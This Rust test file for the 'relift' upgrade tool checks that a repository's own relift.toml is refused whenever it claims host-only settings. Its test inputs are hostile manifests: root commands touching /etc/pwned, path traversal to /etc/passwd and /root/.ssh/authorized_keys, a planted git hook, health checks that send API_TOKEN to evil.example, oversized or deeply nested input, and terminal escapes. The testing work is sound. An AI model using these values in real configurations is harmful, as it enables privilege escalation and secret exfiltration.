//! What a repository's own manifest must not be able to say. The host asks for it (`manifest = true`) and declares the sample
//! itself: each input is a release that brings a `relift.toml`; it is refused, and nothing is changed.

use relift::sample::{Entry, Release, Site};

use crate::harness::{CANARY, Host};

/// A manifest that tries something.
pub struct Input {
    /// What it tries.
    pub name: &'static str,
    /// The release, changed.
    pub plant: fn(Release) -> Release,
    /// What standard error says. The exit status is 2: refused.
    pub words: &'static [&'static str],
}

const HOSTS: &str = "is for the host's manifest alone to say";
const AT: &str = "relift.toml at ";

fn toml(release: Release, text: &str) -> Release {
    release.file("relift.toml", text)
}

/// A component that only the repository declares, with more.
fn component(release: Release, more: &str) -> Release {
    toml(release, &format!("[[component]]\nname = \"extra\"\npath = \"docs\"\n{more}\n"))
}

/// More of a component that the host declares.
fn manager(release: Release, more: &str) -> Release {
    toml(release, &format!("[[component]]\nname = \"manager\"\n{more}\n"))
}

/// The category.
pub const INPUTS: &[Input] = &[
    Input {
        name: "verify",
        plant: |it| toml(it, "[source.git]\nverify = { signed = \"tip\", allowed-signers = \"/opt/app/signers\" }\n"),
        words: &[AT, "`source`", HOSTS],
    },
    Input {
        name: "url",
        plant: |it| toml(it, "[source.git]\nurl = \"/tmp/evil.git\"\n"),
        words: &[AT, "`source`", HOSTS],
    },
    Input {
        name: "owner",
        plant: |it| toml(it, "[install]\nroot = \"/opt/app\"\nowner = \"root\"\n"),
        words: &[AT, "`install`", HOSTS],
    },
    Input { name: "root", plant: |it| toml(it, "[install]\nroot = \"/etc\"\n"), words: &[AT, "`install`", HOSTS] },
    Input {
        name: "trust-checkout",
        plant: |it| toml(it, "[install]\ntrust-checkout = true\n"),
        words: &[AT, "`install`", HOSTS],
    },
    Input {
        name: "policy",
        plant: |it| toml(it, "[policy]\nunattended = \"major\"\nallow-unverified = true\n"),
        words: &[AT, "`policy`", HOSTS],
    },
    Input {
        name: "backup of /etc",
        plant: |it| toml(it, "[backup]\npaths = [\"/etc\"]\ndirectory = \"/opt/app\"\nkeep = 1\n"),
        words: &[AT, "`backup`", HOSTS],
    },
    Input {
        name: "a step as root",
        plant: |it| {
            manager(
                it,
                "[[component.step]]\nname = \"x\"\nrun = [\"touch\", \"/etc/pwned\"]\nas = \"root\"\nundo = \"pure\"\n",
            )
        },
        words: &[AT, "as = \"root\" is for the host's manifest alone"],
    },
    Input {
        name: "a check as root",
        plant: |it| component(it, "[[component.check]]\nrun = [\"touch\", \"/etc/pwned\"]\nas = \"root\"\n"),
        words: &[AT, "as = \"root\" is for the host's manifest alone"],
    },
    Input {
        name: "an artifact outside",
        plant: |it| component(it, "artifacts = [\"../..\"]"),
        words: &[AT, "artifacts", "must not leave the directory"],
    },
    Input {
        name: "root's authorized keys as a configuration file",
        plant: |it| component(it, "env = [{ file = \"/root/.ssh/authorized_keys\", example = \"keys\" }]"),
        words: &[AT, "must be relative"],
    },
    Input {
        name: "a git hook as a configuration file",
        plant: |it| component(it, "env = [{ file = \".GIT/hooks/post-checkout\", example = \"hook\" }]"),
        words: &[AT, "git's own files"],
    },
    Input {
        name: "a unit outside",
        plant: |it| component(it, "[[component.unit]]\nfile = \"../../etc/passwd\"\nscope = \"user\"\n"),
        words: &[AT, "must not leave the directory"],
    },
    Input {
        name: "a unit of the system's named ssh.service",
        plant: |it| component(it, "[[component.unit]]\nfile = \"ssh.service\"\nscope = \"system\"\n"),
        words: &[AT, "a unit of the system manager is for the host's"],
    },
    Input {
        name: "the same without a scope",
        plant: |it| component(it, "[[component.unit]]\nfile = \"ssh.service\"\n"),
        words: &[AT, "a unit of the system manager is for the host's"],
    },
    Input {
        name: "a component outside",
        plant: |it| toml(it, "[[component]]\nname = \"extra\"\npath = \"..\"\n"),
        words: &[AT, "must not leave the directory"],
    },
    Input {
        name: "git's directory as a component",
        plant: |it| toml(it, "[[component]]\nname = \"extra\"\npath = \".git\"\n"),
        words: &[AT, "git's own files"],
    },
    Input {
        name: "a command of 1 MiB",
        plant: |it| {
            let run = format!(
                "[[component.step]]\nname = \"x\"\nundo = \"pure\"\nrun = [\"sh\", \"{}\"]",
                "x".repeat(1 << 20)
            );
            component(it, &run)
        },
        words: &[AT, "is longer than 256 KiB"],
    },
    Input {
        name: "a command of 128 KiB",
        plant: |it| {
            let run = format!(
                "[[component.step]]\nname = \"x\"\nundo = \"pure\"\nrun = [\"sh\", \"{}\"]",
                "x".repeat(128 << 10)
            );
            component(it, &run)
        },
        words: &[AT, "a command of more than 16 KiB"],
    },
    Input {
        name: "a file of 10 MB",
        plant: |it| toml(it, &"# nothing\n".repeat(1_000_000)),
        words: &[AT, "is longer than 256 KiB"],
    },
    Input {
        name: "arrays nested 100,000 deep",
        plant: |it| toml(it, &format!("x = {}", "[".repeat(100_000))),
        words: &[AT, "not TOML"],
    },
    Input {
        name: "tables nested 100,000 deep",
        plant: |it| toml(it, &format!("{} = 1", vec!["x"; 100_000].join("."))),
        words: &[AT],
    },
    Input {
        name: "a link to the host's manifest",
        plant: |it| it.link("relift.toml", "/etc/relift/app.toml"),
        words: &[AT, "is not read: it is no regular file"],
    },
    Input {
        name: "a directory",
        plant: |it| it.without("relift.toml").file("relift.toml/x", ""),
        words: &[AT, "is not read: it is no regular file"],
    },
    Input {
        name: "bytes that are no text",
        plant: |it| it.without("relift.toml").entry("relift.toml", Entry::File(vec![0xff, 0xfe, 0])),
        words: &[AT, "is not read: it is not UTF-8"],
    },
    Input {
        name: "a component twice",
        plant: |it| toml(it, "[[component]]\nname = \"manager\"\n[[component]]\nname = \"manager\"\n"),
        words: &[AT, "is declared twice"],
    },
    Input {
        name: "values that may be shown",
        plant: |it| component(it, "env = [{ file = \".env\", example = \"x\", public = [\"API_TOKEN\"] }]"),
        words: &[AT, "which values may be shown is for the host's"],
    },
    Input {
        name: "a secret to another host, in the URL",
        plant: |it| component(it, "[[component.health]]\nhttp = \"http://evil.example/${API_TOKEN}\"\n"),
        words: &[AT, "asks another host"],
    },
    Input {
        name: "a secret to another host, in a header",
        plant: |it| {
            component(it, "[[component.health]]\nhttp = \"http://192.0.2.1/\"\nheaders = { X = \"${API_TOKEN}\" }\n")
        },
        words: &[AT, "asks another host"],
    },
    Input {
        name: "a secret in the name of a host",
        plant: |it| component(it, "[[component.health]]\ntcp = \"${API_TOKEN}.evil.example:80\"\n"),
        words: &[AT, "asks another host"],
    },
    Input {
        name: "a host before the real one",
        plant: |it| component(it, "[[component.health]]\nhttp = \"http://127.0.0.1:80@evil.example/${API_TOKEN}\"\n"),
        words: &[AT, "asks another host"],
    },
    Input {
        name: "another format, with anything in it",
        plant: |it| toml(it, "schema = 9\n[install]\nowner = \"root\"\n"),
        words: &[AT, "reads schema 1, not 9"],
    },
    Input {
        name: "the sequences of a terminal",
        plant: |it| toml(it, "\"\\u001b]0;owned\\u0007\" = 1\n"),
        words: &[AT, "this key is not known"],
    },
];

#[test]
fn a_repositorys_manifest_says_nothing_that_is_the_hosts_alone() {
    let mut site = Site::new("app");
    site.soak = 0;
    let mut host = Host::with_site(site);
    host.must("sed -i 's/^branch = .*/&\\nmanifest = true/' /etc/relift/app.toml");
    let before = host.snapshot();
    let mut first = None;
    for input in INPUTS {
        host.release(|release| (input.plant)(release.without("relift.toml").next("1.1.0")));
        let out = host.relift(&["upgrade", "app", "--yes"]);
        assert_eq!(out.code, 2, "{}: {out}", input.name);
        for word in input.words {
            assert!(out.stderr.contains(word), "{}: this is missing: {word}\n{out}", input.name);
        }
        assert!(out.stderr.len() < 64 << 10 && !out.stderr.contains('\u{7}'), "{}: {}", input.name, out.stderr.len());
        assert!(!out.stderr.contains(CANARY) && !out.stdout.contains(CANARY), "{}", input.name);
        let head = host
            .must("git -c safe.directory=* -C /opt/app rev-parse HEAD; test ! -e /etc/pwned && ls /var/lib/relift/app");
        assert_eq!(*first.get_or_insert(head.clone()), head, "{}: nothing begins", input.name);
    }
    before.assert_same(&host.snapshot());
    host.assert_no_secret(&host.sh("true"));
    // What comes after such a release is not held up by it.
    host.release(|release| release.without("relift.toml").next("1.2.0"));
    host.relift(&["upgrade", "app", "--yes"]).exits(0);
    assert_eq!(host.answers("manager").as_deref(), Some("1.2.0"));
}

#[test]
fn a_host_that_did_not_ask_is_not_surprised_by_a_repositorys_manifest() {
    let mut host = Host::with_sample();
    host.release(|release| {
        toml(release.next("1.1.0"), "[install]\nowner = \"root\"\n[[component]]\nname = \"x\"\npath = \"..\"\n")
    });
    host.relift(&["upgrade", "app", "--yes"]).exits(0);
    assert_eq!(host.answers("manager").as_deref(), Some("1.1.0"));
}
